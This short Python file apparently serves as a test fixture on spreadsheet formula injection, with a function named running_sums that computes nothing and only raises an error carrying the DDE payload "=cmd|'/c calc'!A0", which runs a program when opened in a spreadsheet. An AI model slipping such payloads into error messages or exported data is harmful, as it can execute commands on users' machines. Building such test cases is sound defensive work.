"""An error message starts a formula that runs a program in a spreadsheet.

Safe: shown as text
Control: acts in a sheet
"""

PAYLOAD = "=cmd|'/c calc'!A0"


def running_sums(numbers):
    raise ValueError(PAYLOAD)
